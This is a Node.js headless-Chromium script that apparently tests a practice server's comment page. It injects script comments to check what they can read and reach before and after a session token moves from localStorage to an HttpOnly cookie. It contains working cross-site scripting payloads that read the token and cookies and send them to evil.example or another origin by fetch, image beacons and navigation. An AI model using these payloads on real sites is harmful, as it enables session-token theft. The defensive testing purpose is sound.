#!/usr/bin/env node
// SPDX-License-Identifier: GPL-3.0-or-later
// Posts comments on the practice server's storage page in headless Chromium, before and after the token has left
// localStorage, and says what their scripts could read and reach.
//
//   node storage.mjs [--picture FILE] [--authorize URL] URL
//
// Prints one JSON object, a name and a word each. Exit 1: something on the page is not as it was expected, told on standard
// error; 3: time-out.
import { parseArgs } from 'node:util';
import { launch } from './chromium.mjs';

const { values: options, positionals: [start] } = parseArgs({
  allowPositionals: true,
  options: { picture: { type: 'string' }, authorize: { type: 'string' } },
});
if (!start) {
  console.error('usage: node storage.mjs [options] URL');
  process.exit(2);
}
const browser = await launch();

async function end(status, text) {
  (status === 0 ? console.log : console.error)(text);
  await browser.close().catch(() => {});
  process.exit(status);
}
const found = {};
setTimeout(() => { end(3, `time-out after ${JSON.stringify(found)}`); }, 45_000).unref();
try {
  const context = await browser.newContext();
  const page = await context.newPage();
  const told = () => page.waitForResponse((response) => response.url().endsWith('/storage/loot'));
  /** Posts the comment that is there: which of the sentences show then. */
  const post = async () => {
    const answer = told();
    await page.click('#post');
    await answer;
    return (await page.$$eval('#loot span', (spans) => spans.filter((each) => !each.hidden).map((each) => each.id))).join(' ');
  };
  /** What a comment's script says of itself by window.outcome. */
  const run = async (script) => {
    await page.evaluate(() => { window.outcome = undefined; });
    await page.fill('#comment', `<script>${script}</` + 'script>');
    await page.click('#post');
    await page.waitForFunction(() => window.outcome !== undefined);
    return page.evaluate(() => window.outcome);
  };
  const reaches = (promise) => `${promise}.then(() => { window.outcome = 'reached'; }, () => { window.outcome = 'blocked'; });`;

  if (options.authorize) { // A cookie of the server, as somebody who signs in has it.
    await page.goto(options.authorize);
    found.cookies = (await context.cookies()).map((each) => each.name.split('_')[0]).join(' ');
  }
  await page.goto(start);
  found.inLocalStorage = await post();
  if (options.picture) await page.screenshot({ path: options.picture, fullPage: true });
  await page.click('#keep');
  found.inCookie = await post();
  found.sentence = (await page.$$eval('[data-session] p', (all) => all.filter((each) => !each.hidden).map((each) => each.id))).join();
  await page.click('#ready-made');
  found.readyMade = await post();
  await page.reload();
  found.anew = await post();

  await page.fill('#comment', '<img src="x" onerror="window.outcome = localStorage.getItem(\'practice_token\') ? \'read\' : \'nothing\'">');
  await page.click('#post');
  await page.waitForFunction(() => window.outcome !== undefined);
  found.handler = await page.evaluate(() => window.outcome);

  found.documentCookie = await run('window.outcome = document.cookie || "nothing";');
  await page.fill('#comment', "<script>fetch('https://evil.example/?t=' + localStorage.getItem('practice_token'))</" + 'script>');
  const sent = told();
  await page.click('#post');
  await sent;
  found.sentElsewhere = await page.$$eval('#loot span, #blocked', (all) => all.filter((each) => !each.hidden).map((each) => each.id).join(' '));
  found.sentTo = await page.textContent('#blocked-at');
  // In a body, in other letters, as a picture: nobody can tell from outside what was in it.
  for (const [name, script] of [
    ['sentInBody', "fetch('https://evil.example/', { method: 'POST', body: localStorage.getItem('practice_token') })"],
    ['sentInOtherLetters', "fetch('https://evil.example/?t=' + btoa(localStorage.getItem('practice_token')))"],
    ['sentAsPicture', "new Image().src = 'https://evil.example/?t=' + localStorage.getItem('practice_token')"],
    ['sentAsData', "new Image().src = 'data:image/png;base64,' + btoa(localStorage.getItem('practice_token'))"],
  ]) {
    await page.reload();
    await page.fill('#comment', `<script>${script}</` + 'script>');
    const tried = told();
    await page.click('#post');
    await tried;
    found[name] = await page.$$eval('#loot span, #blocked', (all) => all.filter((each) => !each.hidden).map((each) => each.id).join(' '));
  }
  const elsewhere = `http://localhost:${new URL(start).port}/`; // another origin, and somebody listens there
  found.elsewhere = await run(reaches(`fetch('${elsewhere}', { mode: 'no-cors' })`));
  found.authorize = await run(reaches("fetch('/authorize')"));
  found.start = await run(reaches("fetch('/')"));
  found.window = await run("window.outcome = window.open('/') === null ? 'blocked' : 'reached';");
  found.frame = await run(`const frame = document.createElement('iframe'); frame.src = '/'; document.body.append(frame);
    frame.onload = () => { let text = ''; try { text = frame.contentDocument.body.innerText; } catch { text = ''; }
      window.outcome = text ? 'reached' : 'blocked'; };`);
  // Not even a cookie of the same name, planted by a script, takes the place of one that is HttpOnly.
  const before = (await context.cookies()).map((each) => `${each.name}=${each.value}`).sort().join();
  await run(`for (const name of ${JSON.stringify((await context.cookies()).map((each) => each.name))})
    document.cookie = name + '=planted; path=' + (name.startsWith('storage') ? '/storage' : '/'); window.outcome = 'done';`);
  found.planted = (await context.cookies()).map((each) => `${each.name}=${each.value}`).sort().join() === before ? 'blocked' : 'reached';
  // A form that is sent leads away; one that is not leaves the page as it is, and the next comment is told.
  const led = page.waitForEvent('framenavigated').then(() => 'reached');
  await page.fill('#comment', `<script>const form = document.createElement('form'); form.action = '/end_session';
    document.body.append(form); form.submit(); report('a token', '');</` + 'script>');
  const stayed = page.waitForResponse((response) => response.request().postData()?.includes('"token"')).then(() => 'blocked');
  await page.click('#post');
  found.form = await Promise.race([led, stayed]);
  // No policy keeps a document from leaving: a reach that is known.
  await page.goto(start);
  const leaving = page.waitForRequest((request) => request.isNavigationRequest() && request.url().includes('?t='));
  await page.fill('#comment', `<script>location = '${elsewhere}?t=' + localStorage.getItem('practice_token')</` + 'script>');
  await page.click('#post');
  found.navigation = new URL((await leaving).url()).searchParams.get('t') === 'null' ? 'nothing' : 'token';
} catch (error) {
  await end(1, `${error}\nso far: ${JSON.stringify(found)}`);
}
await end(0, JSON.stringify(found));
